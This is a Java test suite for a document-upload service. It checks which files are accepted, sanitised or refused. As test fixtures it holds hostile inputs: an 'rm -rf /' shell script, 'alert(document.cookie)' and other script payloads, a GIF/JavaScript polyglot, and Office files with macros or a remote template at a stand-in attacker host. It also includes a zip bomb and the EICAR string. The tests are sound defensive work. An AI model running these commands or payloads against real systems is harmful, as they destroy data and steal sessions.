package org.huhang.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.huhang.document.Samples.utf8;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.huhang.document.FileRefused.Reason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** What comes in through the public form: what is taken, as what, and what is not. */
class UploadTests {

    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private final FilesOnDatabase database = new FilesOnDatabase();

    static Stream<Arguments> welcome() {
        return Stream.of(
                arguments("photo.jpg", Samples.picture("jpeg", 40, 20), "photo.jpg", "image/jpeg"),
                arguments("photo.JPEG", Samples.picture("jpeg", 40, 20), "photo.JPEG", "image/jpeg"),
                arguments("screen.png", Samples.picture("png", 40, 20), "screen.png", "image/png"),
                arguments("really-a-png.jpg", Samples.picture("png", 40, 20), "really-a-png.jpg.png", "image/png"),
                arguments("诊断证明.pdf", Samples.pdf(), "诊断证明.pdf", "application/pdf"),
                arguments("笔录.docx", Samples.zip(Samples.wordEntries()), "笔录.docx", FileType.DOCX.mediaType()),
                arguments("名单.xlsx", Samples.zip(Samples.excelEntries()), "名单.xlsx", FileType.XLSX.mediaType()),
                arguments("笔录.zip", Samples.zip(Samples.wordEntries()), "笔录.zip.docx", FileType.DOCX.mediaType()),
                arguments("聊天记录.txt", utf8("老师:孩子今天没有来。\n"), "聊天记录.txt", "text/plain"),
                arguments("旧.txt", "孩子今天没有来上学".getBytes(Charset.forName("GB18030")), "旧.txt", "text/plain"),
                arguments("记事本.txt", "孩子今天没有来".getBytes(StandardCharsets.UTF_16), "记事本.txt", "text/plain"),
                arguments("信.txt", utf8("From: 老师\nSubject: 缺课\n\n没有来"), "信.txt", "text/plain"),
                arguments("run.exe", utf8(EICAR), "run.exe.txt", "text/plain"),
                arguments("code.js", utf8("alert(document.cookie)\n"), "code.js.txt", "text/plain"),
                arguments("录音.mp3", Samples.mp3(), "录音.mp3", "audio/mpeg"),
                arguments("录音.m4a", Samples.mp4("M4A "), "录音.m4a", "audio/mp4"),
                arguments("录音.amr", Samples.amr(), "录音.amr", "audio/amr"),
                arguments("录音.aac", Samples.aac(), "录音.aac", "audio/aac"),
                arguments("录音.wav", Samples.wav(), "录音.wav", "audio/wav"),
                arguments("现场.mp4", Samples.mp4("mp42"), "现场.mp4", "video/mp4"),
                arguments("现场.mp4", Samples.mp4("isom"), "现场.mp4", "video/mp4"),
                arguments("IMG_1.MOV", Samples.mp4("qt  "), "IMG_1.MOV", "video/quicktime"));
    }

    @ParameterizedTest
    @MethodSource
    void welcome(String name, byte[] content, String keptName, String type) {
        var file = database.upload(name, content);

        assertThat(file.name()).isEqualTo(keptName);
        assertThat(file.type()).isEqualTo(type);
        assertThat(database.kept(file)).hasSize((int) file.size());
    }

    static Stream<Arguments> refused() {
        var word = Samples.wordEntries();
        return Stream.of(
                arguments("empty.txt", new byte[0], Reason.EMPTY),
                arguments("photo.jpg", utf8("<!DOCTYPE html><html><script>x()</script></html>"), Reason.TYPE),
                arguments("a.txt", utf8("<html><body onload=x()>"), Reason.TYPE),
                arguments(
                        "a.svg",
                        utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>"),
                        Reason.TYPE),
                arguments("a.xml", utf8("<?xml version=\"1.0\"?><a/>"), Reason.TYPE),
                arguments("polyglot.gif", utf8("GIF89a/*\1\0\1\0\0\0\0,*/=1;alert(1)//"), Reason.TYPE),
                arguments("tool.exe", Samples.join(utf8("MZ"), new byte[200]), Reason.TYPE),
                arguments("tool", Samples.join(new byte[] {0x7f}, utf8("ELF"), new byte[200]), Reason.TYPE),
                arguments("run.sh", utf8("#!/bin/sh\nrm -rf /\n"), Reason.TYPE),
                arguments("old.doc", HexFormat.of().parseHex("d0cf11e0a1b11ae1" + "00".repeat(600)), Reason.TYPE),
                arguments("late.pdf", Samples.join(utf8("<script>"), Samples.pdf()), Reason.TYPE),
                arguments("noise.txt", HexFormat.of().parseHex("0102030405060708"), Reason.TYPE),
                arguments("nul.txt", utf8("text\0with nul"), Reason.TYPE),
                arguments("any.zip", Samples.zip(Map.of("a.txt", utf8("a"))), Reason.TYPE),
                arguments(
                        "app.jar",
                        Samples.zip(Map.of("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0"))),
                        Reason.TYPE),
                arguments("m.docm", Samples.with(word, "word/vbaProject.bin", new byte[8]), Reason.MACROS),
                arguments(
                        "m.docx",
                        Samples.with(
                                word,
                                "[Content_Types].xml",
                                utf8(
                                        "<Types><Default Extension=\"xml\""
                                                + " ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")),
                        Reason.MACROS),
                arguments("x.docx", Samples.with(word, "word/activeX/activeX1.bin", new byte[8]), Reason.MACROS),
                arguments(
                        "t.docx",
                        Samples.with(
                                word,
                                "word/_rels/settings.xml.rels",
                                utf8("<Relationship Type=\"http://…/attachedTemplate\""
                                        + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>")),
                        Reason.MACROS),
                arguments("o.docx", Samples.with(word, "word/embeddings/oleObject1.bin", new byte[8]), Reason.EMBEDDED),
                arguments("bomb.docx", Samples.bomb(), Reason.UNPACKS_TOO_LARGE),
                arguments("cut.docx", Arrays.copyOf(Samples.zip(word), 150), Reason.DAMAGED),
                arguments(
                        "two.docx",
                        Samples.join(Samples.zip(word), Samples.zip(Samples.excelEntries())),
                        Reason.DAMAGED),
                arguments("run.amr", Samples.join(utf8("#!AMR\n"), utf8("#!/bin/sh\n")), Reason.TYPE),
                arguments("half.aac", Samples.join(Samples.aac(), utf8("<script>x()</script>")), Reason.TYPE),
                arguments("empty.wav", Samples.slice(Samples.wav(), 0, 36), Reason.TYPE),
                arguments("huge.png", Samples.hugePng(50_000, 50_000), Reason.TOO_MANY_PIXELS),
                arguments("huge.png", Samples.hugePng(Integer.MAX_VALUE, Integer.MAX_VALUE), Reason.TOO_MANY_PIXELS),
                arguments("short.png", Samples.hugePng(4_000, 4_000), Reason.DAMAGED),
                arguments("cut.jpg", Arrays.copyOf(Samples.picture("jpeg", 400, 400), 200), Reason.DAMAGED),
                arguments("big.txt", utf8("x".repeat((20 << 20) + 1)), Reason.TOO_LARGE));
    }

    @ParameterizedTest
    @MethodSource
    void refused(String name, byte[] content, Reason reason) {
        assertThatThrownBy(() -> database.upload(name, content))
                .isInstanceOfSatisfying(FileRefused.class, refusal -> assertThat(refusal.reason())
                        .isEqualTo(reason));
        assertThat(database.count("file")).isZero();
        assertThat(database.count("piece")).isZero();
    }

    @Test
    void aPhotoLosesWhereItWasTaken() {
        var photo = Samples.photo(1);
        assertThat(text(photo)).contains(Samples.GPS_MARK);

        var kept = text(database.kept(database.upload("home.jpg", photo)));

        assertThat(kept).doesNotContain("GPS").doesNotContain("Exif");
    }

    @Test
    void whatHidesBehindAPictureStaysOutside() {
        var polyglot = Samples.join(Samples.picture("png", 40, 20), utf8("<script>alert(1)</script>"));

        var kept = text(database.kept(database.upload("a.png", polyglot)));

        assertThat(kept).doesNotContain("script");
    }

    /** The stored picture is red on its left; the place is where the red half must stand once it is upright. */
    @ParameterizedTest
    @CsvSource({
        "1, 40, 20, 5, 10",
        "2, 40, 20, 35, 10",
        "3, 40, 20, 35, 10",
        "4, 40, 20, 5, 10",
        "5, 20, 40, 10, 5",
        "6, 20, 40, 10, 5",
        "7, 20, 40, 10, 35",
        "8, 20, 40, 10, 35",
        "0, 40, 20, 5, 10",
        "99, 40, 20, 5, 10"
    })
    void aPhotoStandsUprightWithoutItsHiddenNote(int orientation, int width, int height, int redX, int redY)
            throws IOException {
        var picture = picture(database.upload("a.jpg", Samples.photo(orientation)));

        assertThat(picture.getWidth()).isEqualTo(width);
        assertThat(picture.getHeight()).isEqualTo(height);
        assertThat(new Color(picture.getRGB(redX, redY)).getRed()).isGreaterThan(200);
        assertThat(new Color(picture.getRGB(width - 1 - redX, height - 1 - redY)).getBlue())
                .isGreaterThan(200);
    }

    @Test
    void aPictureOfManyPixelsIsKeptSmaller() throws IOException {
        var picture = picture(database.upload("wide.png", Samples.picture("png", 6000, 5000)));

        assertThat(picture.getWidth()).isEqualTo(3000);
        assertThat(picture.getHeight()).isEqualTo(2500);
    }

    @Test
    void mutilatedFilesAreTakenOrRefusedButNeverAFault() {
        var random = new Random(20261121);
        var originals = new byte[][] {
            Samples.photo(6),
            Samples.picture("png", 60, 60),
            Samples.zip(Samples.wordEntries()),
            Samples.mp3(),
            Samples.pdf()
        };
        for (var round = 0; round < 400; round++) {
            var bytes = originals[round % originals.length].clone();
            for (var change = 0; change < 1 + round % 5; change++) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
            }
            try {
                database.upload("a", bytes);
            } catch (FileRefused expected) {
                assertThat(expected.reason()).isNotNull();
            }
        }
    }

    @Test
    void theFingerprintIsThatOfWhatIsKeptAndOfWhatCame() throws NoSuchAlgorithmException {
        var photo = Samples.photo(1);
        var file = database.upload("a.jpg", photo);
        var received = database.jdbc
                .sql("select received_sha256 from document.file")
                .query((row, number) -> row.getBytes(1))
                .single();

        assertThat(file.sha256()).isEqualTo(HexFormat.of().formatHex(sha256(database.kept(file))));
        assertThat(received).isEqualTo(sha256(photo));
    }

    @Test
    void aLargeFileComesBackWhole() {
        var bytes = new byte[3_000_001];
        new Random(1).nextBytes(bytes);
        var film = Samples.join(Samples.mp4("mp42"), bytes);

        var file = database.upload("现场.mp4", film);

        assertThat(database.kept(file)).isEqualTo(film);
        assertThat(file.readableSize()).isEqualTo("3.0 MB");
    }

    private BufferedImage picture(StoredFile file) throws IOException {
        return ImageIO.read(new ByteArrayInputStream(database.kept(file)));
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private static byte[] sha256(byte[] bytes) throws NoSuchAlgorithmException {
        return MessageDigest.getInstance("SHA-256").digest(bytes);
    }
}
